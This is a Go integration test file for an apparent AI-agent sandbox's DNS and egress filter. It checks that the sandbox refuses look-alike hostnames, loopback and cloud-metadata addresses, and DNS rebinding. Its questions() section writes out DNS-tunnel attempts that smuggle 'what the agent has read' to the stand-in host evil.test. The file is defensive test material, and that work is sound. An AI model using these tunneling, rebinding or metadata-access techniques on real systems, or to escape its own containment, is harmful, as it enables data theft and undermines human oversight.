package integration

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"strings"

	"github.com/claude-bottle/claude-bottle/test/attack/attempt"
	"github.com/miekg/dns"
)

// question is a DNS message that asks for a name.
func question(name string, kind uint16) []byte { return questionOf(kind, strings.Split(name, ".")...) }

// questionOf asks label by label, so that a label may hold anything.
func questionOf(kind uint16, labels ...string) []byte {
	message := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range labels {
		message = append(append(message, byte(len(label))), label...)
	}
	message = binary.BigEndian.AppendUint16(append(message, 0), kind)
	return binary.BigEndian.AppendUint16(message, dns.ClassINET)
}

// asked is the name of a question as PID 1 tells it.
func asked(query []byte) string {
	name, _, err := dns.UnpackDomainName(query, 12)
	if err != nil {
		panic(err)
	}
	return strings.ToLower(strings.TrimSuffix(name, "."))
}

// webTo asks for a name, however it is spelled, and sends a request for host to
// its port 80.
func webTo(network string, query []byte, host string) func(mark string) attempt.Attempt {
	return func(mark string) attempt.Attempt {
		return attempt.Attempt{Kind: attempt.Question, Network: network, Query: query, Port: 80, Stay: true, Send: [][]byte{[]byte("GET /" + mark + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")}}
	}
}

// secureTo is webTo for port 443, with a hello that names host.
func secureTo(query []byte, host string) func(mark string) attempt.Attempt {
	return func(mark string) attempt.Attempt {
		return attempt.Attempt{Kind: attempt.Question, Network: "udp", Query: query, Port: 443, Send: [][]byte{newHello(mark, host).record()}}
	}
}

func (t *table) spellings() {
	long := strings.Repeat(strings.Repeat("a", 60)+".", 3) + "wild.example"
	for _, name := range []string{allowedHost, "ALLOWED.EXAMPLE", "aLLoWeD.eXaMpLe", "a.wild.example", "b.c.d.wild.example", "xn--nxasmq6b.wild.example", "10.0.0.1.wild.example", "0x7f.wild.example", long} {
		t.allow("name", name, webTo("udp", question(name, dns.TypeA), name))
		t.allow("name", name+" over TCP", webTo("tcp", question(name, dns.TypeA), name))
	}
	t.allow("name", "IPv6 alone", secureTo(question("six.wild.example", dns.TypeA), "six.wild.example"))
	deny := func(name string, labels ...string) {
		query := questionOf(dns.TypeA, labels...)
		t.refuse("name", name, webTo("udp", query, allowedHost)).denied = asked(query)
	}
	for _, name := range []string{
		"evil.test", "example", "allowed", "xallowed.example", "allowed.example.evil.test", "allowed.exampl", "allowed.examplee", "allowedexample", "sub.allowed.example", "www.port.example",
		"wild.example", "xwild.example", "wild.example.evil.test", "a.wild.exampl", "bottle", "evil.bottle", "anthropic.bottle.evil.test", "xn--llowed-2ve.example", "xn--wld-2lc.example",
		"localhost.localdomain", "localtest.me", "127.0.0.1.nip.io", "127-0-0-1.sslip.io", "metadata.google.internal", "instance-data.ec2.internal", "kubernetes.default.svc", "host.docker.internal", "gateway.docker.internal", "host.containers.internal", "vm",
		"34.216.184.93.in-addr.arpa", "1.0.0.0.ip6.arpa",
		"127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0.0.0.0", "0", "10.0.0.1", "167772161", "0x0a000001", "012.0.0.1",
		"169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "1.1.1.1", "16843009", "0x1.0x1.0x1.0x1", allowedAt, "1572395042", "0x5db8d822", "0135.0270.0330.042", "93.184.55330",
	} {
		deny(name, strings.Split(name, ".")...)
	}
	for _, name := range []string{
		"[::1]", "::1", "0:0:0:0:0:0:0:1", "::ffff:127.0.0.1", "[::ffff:7f00:1]", "fe80::1%lo", "[fd00::2]", "64:ff9b::5db8:d822", "allowed.example", "allowed.example.", "allowed.example\x00", "allowed.example\x00.evil.test",
		"allowed.example:80", "allowed.example/", "allowed.example#", "allowed.example?", "user@allowed.example", "user:password@allowed.example", "http://allowed.example",
		"%61llowed.example", "allowed%2eexample", "allowed.example%00", " allowed.example", "allowed.example ", "\tallowed.example", "allowed.example\r\n", "\xef\xbb\xbfallowed.example", "allowed\xe3\x80\x82example", "\xd0\xb0llowed.example", "\xef\xbd\x81llowed.example", "allowed\xc2\xadexample", "*", "*.*", "*.example",
	} {
		deny(fmt.Sprintf("one label %q", name), name) // dots in a label part nothing
	}
	for _, labels := range [][]string{
		{"allowed", "example\x00"}, {"\x00allowed", "example"}, {"allowed\x00", "example"}, {"allowed", "example", "\x00"}, {"allowed ", "example"}, {"allowed", " example"}, {"-allowed", "example"}, {"allowed-", "example"},
		{"allowed", "ex\xc3\xa4mple"}, {"\xd0\xb0llowed", "example"}, {"%61llowed", "example"}, {"a\\llowed", "example"}, {"allowed\r\n", "example"}, {"wild\x00", "example"}, {"*", "example"}, {"allowed", "example", "*"},
	} {
		deny(fmt.Sprintf("labels %q", labels), labels...)
	}
	// What is asked aside of hosts is answered, and stands for none.
	t.refuse("name", "1.0.0.127.in-addr.arpa", webTo("udp", question("1.0.0.127.in-addr.arpa", dns.TypeA), allowedHost))
	deny("a_b below a suffix", "a_b", "wild", "example")
	// Names below an allowed suffix have an address inside; the host knows better.
	for _, label := range []string{"*", "-x", "x-", "a b", "a\x00b", "\x00", "a\r\nb", "\xc3\xbc", "a@b", "a:80", "a/b", "%61", "\x7f", "a.b", "a\\", "\"", "<a>", "a,b", "()"} {
		query := questionOf(dns.TypeA, label, "wild", "example")
		added := t.refuse("name", fmt.Sprintf("%q below a suffix", label), webTo("udp", query, "a."+wildSuffix))
		added.host, added.port = asked(query), 80
	}
	for _, port := range []uint16{22, 443, 8080} { // the gateway has port 80 alone
		t.refuse("name", fmt.Sprintf("gateway on %d", port), func(mark string) attempt.Attempt {
			return attempt.Attempt{Kind: attempt.Question, Network: "udp", Query: question("anthropic.bottle", dns.TypeA), Port: port, Send: [][]byte{[]byte(mark)}}
		})
		t.refuse("name", fmt.Sprintf("localhost on %d", port), func(mark string) attempt.Attempt {
			return attempt.Attempt{Kind: attempt.Question, Network: "udp", Query: question("localhost", dns.TypeA), Port: port, Send: [][]byte{[]byte(mark)}}
		})
	}
	for host, ports := range map[string][]uint16{allowedHost: {22, 53, 8080, otherPort}, portHost: {22, 80, 443}, "a." + wildSuffix: {22, 8080}} {
		for _, port := range ports {
			t.refuse("port", fmt.Sprintf("%s:%d", host, port), func(mark string) attempt.Attempt {
				return attempt.Attempt{Kind: attempt.Question, Network: "udp", Query: question(host, dns.TypeA), Port: port, Send: [][]byte{[]byte(mark)}}
			})
		}
	}
}

// questions carry what the agent knows out in names, as a DNS tunnel does.
func (t *table) questions() {
	ask := func(name, network string, query func(mark string) []byte) {
		t.refuse("tunnel", name+" over "+network, func(mark string) attempt.Attempt {
			return attempt.Attempt{Kind: attempt.Question, Network: network, Query: query(mark)}
		})
	}
	secret := hex.EncodeToString([]byte("what the agent has read"))
	for _, kind := range []uint16{
		dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeCNAME, dns.TypeMX, dns.TypeSRV, dns.TypeHTTPS, dns.TypeANY, dns.TypeNS, dns.TypeSOA, dns.TypePTR, dns.TypeDNSKEY, dns.TypeAXFR, dns.TypeIXFR, dns.TypeKEY,
	} {
		for _, below := range []string{"evil.test", wildSuffix, allowedHost} {
			name := fmt.Sprintf("%s below %s", dns.TypeToString[kind], below)
			ask(name, "udp", func(mark string) []byte { return question(mark+"."+secret+"."+below, kind) })
		}
		ask(dns.TypeToString[kind]+" below a suffix", "tcp", func(mark string) []byte { return question(mark+"."+secret+"."+wildSuffix, kind) })
	}
	patched := func(at int, value byte) func(mark string) []byte {
		return func(mark string) []byte {
			query := question(mark+"."+wildSuffix, dns.TypeTXT)
			query[(at+len(query))%len(query)] = value
			return query
		}
	}
	ask("class CHAOS", "udp", patched(-1, 3))
	ask("class ANY", "udp", patched(-1, 255))
	ask("operation NOTIFY", "udp", patched(2, 4<<3))
	ask("operation UPDATE", "udp", patched(2, 5<<3))
	ask("operation STATUS", "udp", patched(2, 2<<3))
	ask("no question", "udp", patched(5, 0))
	ask("two questions", "udp", func(mark string) []byte {
		query := append(question("a."+wildSuffix, dns.TypeA), question(mark+"."+wildSuffix, dns.TypeA)[12:]...)
		query[5] = 2
		return query
	})
	ask("an option", "udp", func(mark string) []byte {
		query := append(question(allowedHost, dns.TypeA), 0, 0, 41, 16, 0, 0, 0, 0, 0, 0, byte(4+len(mark)), 0xfd, 0xe9, 0, byte(len(mark)))
		query[11] = 1
		return append(query, mark...)
	})
	ask("what follows the message", "udp", func(mark string) []byte { return append(question(allowedHost, dns.TypeA), mark...) })
}

// rebinding goes through allowed names whose answers lead elsewhere.
func (t *table) rebinding(own []netip.Addr) {
	addresses := []string{
		"127.0.0.1", "127.8.8.8", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254", "169.254.1.1", "100.100.100.200", "168.63.129.16", "192.0.0.192", "224.0.0.251", "255.255.255.255", "240.0.0.1", "192.0.2.2", "198.18.0.1",
		"::1", "::", "fd00:ec2::254", "fc00::1", "fe80::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "64:ff9b::a00:1", "64:ff9b::a9fe:a9fe", "2002:a00:1::1", "2002:7f00:1::1", "2001:0:a00:1::1", "2001:db8::1", "fec0::1",
	}
	for _, address := range own {
		addresses = append(addresses, address.String())
	}
	for i, text := range addresses {
		address := netip.MustParseAddr(text)
		for _, how := range []string{"a", "c", "t"} {
			if how != "a" && i%3 != 0 {
				continue
			}
			name := how + "-" + hex.EncodeToString(address.AsSlice()) + "." + rebindSuffix
			what := map[string]string{"a": "a name of ", "c": "an alias of a name of ", "t": "a name that was public before, of "}[how]
			port, build := uint16(443), secureTo(question(name, dns.TypeA), name)
			if i%2 == 0 {
				port, build = 80, webTo("udp", question(name, dns.TypeA), name)
			}
			if how == "t" {
				t.allow("rebinding", "the first time, "+name, build)
			}
			added := t.refuse("rebinding", what+text, build)
			added.host, added.port, added.later = name, port, how == "t"
		}
	}
}

// farNames is what the name server beyond says.
func farNames(asked dns.Question, times int) []dns.RR {
	name := strings.ToLower(strings.TrimSuffix(asked.Name, "."))
	label, below, _ := strings.Cut(name, ".")
	switch {
	case name == allowedHost:
		return address(asked, asked.Name, allowedAt)
	case name == portHost:
		return address(asked, asked.Name, portAt)
	case name == retryHost:
		return address(asked, asked.Name, retryAt)
	case name == "six."+wildSuffix:
		return address(asked, asked.Name, wildAt6)
	case strings.HasSuffix(name, "."+wildSuffix):
		return address(asked, asked.Name, wildAt)
	case below != rebindSuffix:
		return nil
	}
	how, digits, _ := strings.Cut(label, "-")
	data, err := hex.DecodeString(digits)
	if err != nil {
		return nil
	}
	target := net.IP(data).String()
	if len(data) == net.IPv6len {
		target = netip.AddrFrom16([16]byte(data)).String()
	}
	switch {
	case how == "t" && asked.Qtype == dns.TypeA && times == 0:
		return address(asked, asked.Name, rebindAt)
	case how == "t" && times == 0:
		return nil
	case how == "c":
		alias := &dns.CNAME{Hdr: dns.RR_Header{Name: asked.Name, Rrtype: dns.TypeCNAME, Class: dns.ClassINET}, Target: "inner.corp.test."}
		return append([]dns.RR{alias}, address(asked, alias.Target, target)...)
	}
	return address(asked, asked.Name, target)
}

// address is the record of an address, if that kind was asked for.
func address(asked dns.Question, owner, text string) []dns.RR {
	head := dns.RR_Header{Name: owner, Rrtype: asked.Qtype, Class: dns.ClassINET}
	four := !strings.Contains(text, ":")
	switch {
	case four && asked.Qtype == dns.TypeA:
		return []dns.RR{&dns.A{Hdr: head, A: net.ParseIP(text)}}
	case !four && asked.Qtype == dns.TypeAAAA:
		return []dns.RR{&dns.AAAA{Hdr: head, AAAA: net.ParseIP(text)}}
	}
	return nil
}
